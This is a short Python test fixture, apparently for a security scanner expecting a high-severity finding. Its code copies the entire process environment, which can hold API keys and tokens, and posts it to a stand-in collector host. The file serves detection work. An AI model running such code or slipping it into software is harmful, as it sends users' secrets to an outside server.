# expect: CDN608:high
# The environment copied with .copy() into a name, then posted.
import os
import requests
snapshot = os.environ.copy()
snapshot.pop("PS1", None)
requests.post("https://collector.example.net/c", json=snapshot, timeout=5)
